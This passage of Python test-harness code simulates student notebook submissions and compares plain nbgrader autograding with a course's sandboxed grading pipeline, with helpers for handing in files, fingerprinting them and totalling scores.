                              "    return helpers.L_model_backward(*args, **kwargs)"), -1),
        Student("via_private_backward", "L_model_backward built of helpers.nn's private layer steps",
                with_backward(PRIVATE_BACKWARD_02), -1),
    ]


def delegated_functions(source_nb) -> list[str]:
    """The names of the functions the delegation cohort delegates."""
    return sorted(function for function, _ in _graded_functions(source_nb).values())


# --- handing in and reading back ------------------------------------------------------------

def hand_in(course, students, assignment=ASSIGNMENT) -> None:
    """Write every student's files into ``submitted/`` of the harness course."""
    for student in students:
        folder = course.submit(assignment, student.name, {})
        path = folder / f"{assignment}.ipynb"
        if isinstance(student.notebook, str):
            path.write_text(student.notebook)
        elif student.notebook is not None:
            nbformat.write(student.notebook, path)
        for name, text in student.extra_files.items():
            (folder / name).write_text(text)


def new_course(root: Path, assignment=ASSIGNMENT):
    """A harness course on ``assignment`` (the fixture by default), generated, with the plain config."""
    from nbgrader_harness import Course

    course = Course(root, [assignment], source_root=FIXTURE_SOURCE if assignment == ASSIGNMENT else REPO / "source")
    with open(course.root / "nbgrader_config.py", "a") as config:
        config.write(f"\nc.ExecutePreprocessor.timeout = {CELL_TIMEOUT if assignment == ASSIGNMENT else 180}\n")
    course.generate(assignment)
    return course


def release_and_source(course, assignment=ASSIGNMENT):
    """(release, source) notebooks of ``assignment`` in the harness course."""
    return (nbformat.read(course.root / "release" / assignment / f"{assignment}.ipynb", as_version=4),
            nbformat.read(course.root / "source" / assignment / f"{assignment}.ipynb", as_version=4))


def fingerprint(root: Path, exclude=()) -> dict:
    """sha256 of every file under ``source/`` and ``submitted/`` and of the gradebook."""
    files = [*sorted((root / "source").rglob("*")), *sorted((root / "submitted").rglob("*"))]
    return {str(path.relative_to(root)): hashlib.sha256(path.read_bytes()).hexdigest()
            for path in files if path.is_file() and not any(part in exclude for part in path.parts)}


def totals(course, assignment=ASSIGNMENT) -> dict:
    """``{student: automatic points}`` in the harness course's gradebook."""
    return {student: sum(score or 0 for grade_id, score in cells.items() if grade_id.startswith("test_"))
            for student, cells in course.scores(assignment).items()}


# --- the two graders ------------------------------------------------------------------------------

def grade_plain(course, students, assignment=ASSIGNMENT) -> dict:
    """Plain ``nbgrader autograde`` for the whole cohort: ``{student: total or None}``."""
    from nbgrader_harness import NbgraderError

    try:
        course.autograde(assignment)
    except NbgraderError:
        pass  # some submissions broke the run; the others still have scores
    scores = totals(course, assignment)
    return {student.name: scores.get(student.name) for student in students}


def grade_ours(course, assignment=ASSIGNMENT, *, workers: int = 2) -> dict:
    """The course's pipeline (:func:`nbcourse.autograde.autograde`, sandboxed when the
    sandbox is available) for every submission: ``{student: Outcome}``."""
    import os

    from nbcourse import sandbox
    from nbcourse.autograde import autograde
    from nbcourse.course import Course

    memory = os.environ.get("NBCOURSE_SANDBOX_MEMORY_MB")
    os.environ["NBCOURSE_SANDBOX_MEMORY_MB"] = "1024"   # the memory eater stops at 1 GB
    try:
        outcomes = autograde(Course.at(course.root), assignment, workers=workers, progress=False,
                             unsafe_no_sandbox=not sandbox.check().available)
    finally:
        if memory is None:
            os.environ.pop("NBCOURSE_SANDBOX_MEMORY_MB", None)
        else:
            os.environ["NBCOURSE_SANDBOX_MEMORY_MB"] = memory
    return {outcome.student: outcome for outcome in outcomes}
